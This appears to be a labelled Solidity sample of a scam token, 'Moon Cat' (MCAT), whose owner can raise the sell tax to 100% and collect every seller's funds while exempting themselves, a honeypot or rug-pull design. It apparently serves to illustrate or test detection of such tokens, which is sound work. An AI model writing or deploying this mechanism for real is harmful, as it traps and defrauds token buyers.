// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Token} from "../Token.sol";

/// Trades freely today; the owner can set the tax on sales to anything, 100% included.
contract RisingTax is Token {
    uint256 public sellTax;
    mapping(address => bool) public isPair;

    constructor() {
        name = "Moon Cat";
        symbol = "MCAT";
    }

    function setPair(address pair, bool value) external onlyOwner {
        isPair[pair] = value;
    }

    function adjust(uint256 percent) external onlyOwner {
        sellTax = percent;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = isPair[to] && from != owner ? (value * sellTax) / 100 : 0;
        if (fee > 0) _move(from, owner, fee);
        super._transfer(from, to, value - fee);
    }
}
